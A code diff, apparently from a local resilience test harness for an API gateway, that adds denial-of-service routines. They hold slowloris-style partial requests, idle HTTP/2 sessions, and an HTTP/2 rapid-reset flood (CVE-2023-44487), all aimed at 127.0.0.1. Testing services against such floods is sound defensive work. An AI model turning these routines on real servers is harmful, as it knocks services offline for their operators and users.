@@ -1,29 +1,49 @@
 import { connect as connectHttp2 } from 'node:http2';
 import { connect } from 'node:net';
 import type { Running } from './flood.ts';
+import { preface, resetCalls } from './frames.ts';
 
 const attackerAddress = '127.0.0.2';
 
 /** Connections to the gateway that send the head of a request and nothing more, opened again when they are closed. */
 export function idleSockets(baseUrl: string, count: number): Running {
-  const { port, hostname } = new URL(baseUrl);
+  const head = 'POST /api/contacts.upsert HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n{';
+  return sockets(Number(new URL(baseUrl).port), { count, text: head, againMs: 1_000 });
+}
+
+/** Connections to a gRPC port that begin HTTP/2 and do nothing more. */
+export function idleSessions(port: number, count: number): Running {
+  return sockets(port, { count, text: preface, againMs: 1_000 });
+}
+
+/** Rapid reset (CVE-2023-44487): connections that send calls and cancel them at once, as fast as they are taken. */
+export function rapidResets(port: number, path: string, count: number): Running {
+  const text = Buffer.concat([preface, resetCalls(path, 5_000)]);
+  return sockets(port, { count, text, againMs: 1 });
+}
+
+type Sent = { count: number; text: string | Buffer; againMs: number };
+
+/** Connections that send something, opened again when they are closed. The tally counts how often. */
+function sockets(port: number, { count, text, againMs }: Sent): Running {
   let isStopped = false;
+  const tally = new Map<number, number>();
   const open = new Set<ReturnType<typeof connect>>();
   const begin = () => {
-    const socket = connect({ port: Number(port), host: hostname, localAddress: attackerAddress });
+    const socket = connect({ port, host: '127.0.0.1', localAddress: attackerAddress });
     open.add(socket);
     socket.on('error', () => {}).resume();
-    socket.once('connect', () =>
-      socket.write('POST /api/contacts.upsert HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n{'),
-    );
+    socket.once('connect', () => socket.write(text));
     socket.once('close', () => {
       open.delete(socket);
-      if (!isStopped) setTimeout(begin, 1_000).unref();
+      if (isStopped) return;
+      tally.set(0, (tally.get(0) ?? 0) + 1);
+      setTimeout(begin, againMs).unref();
     });
   };
   for (let each = 0; each < count; each += 1) begin();
   return {
-    tally: new Map(),
+    tally,
     async stop() {
       isStopped = true;
       for (const socket of open) socket.destroy();
